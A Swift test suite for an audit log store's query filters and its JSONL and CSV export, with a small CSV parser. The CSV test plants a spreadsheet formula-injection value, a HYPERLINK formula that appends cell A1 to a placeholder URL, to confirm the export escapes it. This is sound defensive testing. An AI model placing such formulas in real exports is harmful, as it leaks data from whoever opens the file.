import Foundation
import TenureCore
import TenureStore
import Testing

@Suite("Audit queries and export")
struct AuditQueryTests {
    /// 20 events one minute apart, subjects cycling over id-0 … id-4.
    private func withFilledStore(_ body: (SQLiteStore) async throws -> Void) async throws {
        try await withStore { store, _ throws in
            _ = try await store.appendAudit((1...20).map { event($0, time: 1_764_230_000 + Double($0) * 60) })
            try await body(store)
        }
    }

    @Test func filtersCombine() async throws {
        try await self.withFilledStore { store throws in
            let all = try await store.auditRecords(AuditQuery())
            #expect(all.map(\.sequence) == Array(1...20))

            #expect(try await store.auditRecords(AuditQuery(afterSequence: 17)).map(\.sequence) == [18, 19, 20])
            #expect(try await store.auditRecords(AuditQuery(beforeSequence: 3)).map(\.sequence) == [1, 2])
            // since is inclusive, until exclusive.
            let window = AuditQuery(since: 1_764_230_000 + 5 * 60, until: 1_764_230_000 + 8 * 60)
            #expect(try await store.auditRecords(window).map(\.sequence) == [5, 6, 7])
            #expect(try await store.auditRecords(AuditQuery(subject: "id-2")).map(\.sequence) == [2, 7, 12, 17])
            let combined = AuditQuery(afterSequence: 2, subject: "id-2", limit: 2, newestFirst: true)
            #expect(try await store.auditRecords(combined).map(\.sequence) == [17, 12])
            #expect(
                try await store.auditRecords(AuditQuery(limit: 3, newestFirst: true)).map(\.sequence) == [20, 19, 18]
            )
            #expect(try await store.auditRecords(AuditQuery(limit: 0)).isEmpty)
            #expect(try await store.auditRecords(AuditQuery(subject: "nobody")).isEmpty)
        }
    }

    @Test func jsonlExportParsesBackToTheRecords() async throws {
        try await self.withFilledStore { store throws in
            var chunks: [[UInt8]] = []
            try await store.exportAudit(AuditQuery(), format: .jsonl) { chunks.append($0) }
            let text = String(decoding: chunks.joined(), as: UTF8.self)
            let lines = text.split(separator: "\n", omittingEmptySubsequences: false)
            #expect(lines.count == 21)
            #expect(lines.last == "")
            let records = try await store.auditRecords(AuditQuery())
            let formatter = ISO8601DateFormatter()
            formatter.formatOptions = [.withInternetDateTime, .withFractionalSeconds]
            for (line, record) in zip(lines, records) {
                let object = try #require(
                    try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any]
                )
                #expect(
                    Set(object.keys)
                        == [
                            "sequence", "time", "actor", "type", "subject", "object", "outcome", "details",
                            "previousHash",
                            "mac",
                        ]
                )
                #expect((object["sequence"] as? NSNumber)?.int64Value == record.sequence)
                let time = try #require(object["time"] as? String)
                #expect(time.hasSuffix("Z"))
                let date = try #require(formatter.date(from: time))
                #expect(abs(date.timeIntervalSince1970 - record.event.time) < 0.001)
                #expect(object["actor"] as? String == record.event.actor)
                #expect(object["type"] as? String == record.event.type)
                #expect((object["subject"] as? String) == record.event.subject)
                if let expectedObject = record.event.object {
                    #expect(object["object"] as? String == expectedObject)
                } else {
                    #expect(object["object"] is NSNull)
                }
                #expect(object["outcome"] as? String == record.event.outcome)
                #expect(object["details"] as? [String: String] == record.event.details)
                #expect(object["previousHash"] as? String == record.previousHash)
                #expect(object["mac"] as? String == record.mac)
            }
        }
    }

    @Test func csvExportParsesBackToTheRecords() async throws {
        try await withStore { store, _ throws in
            var events = (1...5).map { event($0) }
            events[2].details["multi\nline"] = "a \"quoted\"\r\nvalue, with comma"
            events[3].actor = "cli:o'brien, \"the admin\""
            // What an API client controls (a decision's subject): never a formula in a spreadsheet.
            events[4].subject = "=HYPERLINK(\"http://x/?\"&A1,\"ok\")"
            events[1].object = "-1+2"
            events[0].object = "'=already quoted"
            _ = try await store.appendAudit(events)
            var bytes: [UInt8] = []
            try await store.exportAudit(AuditQuery(), format: .csv) { bytes += $0 }
            let rows = try parseCSV(String(decoding: bytes, as: UTF8.self))
            #expect(
                rows.first
                    == [
                        "sequence", "time", "actor", "type", "subject", "object", "outcome", "details", "previousHash",
                        "mac",
                    ]
            )
            let records = try await store.auditRecords(AuditQuery())
            #expect(rows.count == records.count + 1)
            #expect(rows[5][4].hasPrefix("'=HYPERLINK"), "\(rows[5])")
            #expect(rows[2][5] == "'-1+2")
            #expect(rows[1][5] == "''=already quoted")
            for (row, record) in zip(rows.dropFirst(), records) {
                #expect(row.count == 10)
                #expect(row[0] == String(record.sequence))
                #expect(row[2] == record.event.actor)
                #expect(row[3] == record.event.type)
                // A formula-like field (or one starting with ') is written with a leading ', dropped here.
                func value(_ field: String) -> String { field.hasPrefix("'") ? String(field.dropFirst()) : field }
                #expect(value(row[4]) == record.event.subject ?? "")
                #expect(value(row[5]) == record.event.object ?? "")
                #expect(row[6] == record.event.outcome)
                let details = try JSONSerialization.jsonObject(with: Data(row[7].utf8)) as? [String: String]
                #expect(details == record.event.details)
                #expect(row[8] == record.previousHash)
                #expect(row[9] == record.mac)
            }
        }
    }

    @Test func exportPagesThroughLargeLogsHonouringLimitAndOrder() async throws {
        try await withStore { store, _ throws in
            _ = try await store.appendAudit((1...2_500).map { event($0) })
            var sequences: [Int64] = []
            let sink: ([UInt8]) -> Void = { line in
                let object = try? JSONSerialization.jsonObject(with: Data(line)) as? [String: Any]
                sequences.append((object?["sequence"] as? NSNumber)?.int64Value ?? -1)
            }
            try await store.exportAudit(AuditQuery(), format: .jsonl, to: sink)
            #expect(sequences == Array(1...2_500))
            sequences = []
            try await store.exportAudit(AuditQuery(limit: 2_100, newestFirst: true), format: .jsonl, to: sink)
            #expect(sequences == Array((401...2_500).reversed()))
            sequences = []
            try await store.exportAudit(AuditQuery(afterSequence: 999, limit: 1_001), format: .jsonl, to: sink)
            #expect(sequences == Array(1_000...2_000))
        }
    }

    @Test func sinkErrorsStopTheExport() async throws {
        struct Full: Error {}
        try await self.withFilledStore { store throws in
            var calls = 0
            await #expect(throws: Full.self) {
                try await store.exportAudit(AuditQuery(), format: .csv) { _ in
                    calls += 1
                    if calls == 3 { throw Full() }
                }
            }
            #expect(calls == 3)
        }
    }
}

/// RFC 4180 reader for the test: quoted fields, doubled quotes, CRLF records.
func parseCSV(_ text: String) throws -> [[String]] {
    var rows: [[String]] = []
    var row: [String] = []
    var field = ""
    var inQuotes = false
    var iterator = Array(text.unicodeScalars).makeIterator()
    var pending: Unicode.Scalar? = nil
    func next() -> Unicode.Scalar? {
        if let scalar = pending {
            pending = nil
            return scalar
        }
        return iterator.next()
    }
    while let scalar = next() {
        if inQuotes {
            if scalar == "\"" {
                if let following = next() {
                    if following == "\"" {
                        field.unicodeScalars.append("\"")
                    } else {
                        inQuotes = false
                        pending = following
                    }
                } else {
                    inQuotes = false
                }
            } else {
                field.unicodeScalars.append(scalar)
            }
            continue
        }
        switch scalar {
        case "\"" where field.isEmpty: inQuotes = true
        case ",":
            row.append(field)
            field = ""
        case "\r":
            guard next() == "\n" else { throw CSVError.bareCarriageReturn }
            row.append(field)
            rows.append(row)
            row = []
            field = ""
        case "\n": throw CSVError.bareLineFeed
        default: field.unicodeScalars.append(scalar)
        }
    }
    guard !inQuotes else { throw CSVError.unterminatedQuote }
    if !field.isEmpty || !row.isEmpty {
        row.append(field)
        rows.append(row)
    }
    return rows
}

enum CSVError: Error {
    case bareCarriageReturn
    case bareLineFeed
    case unterminatedQuote
}
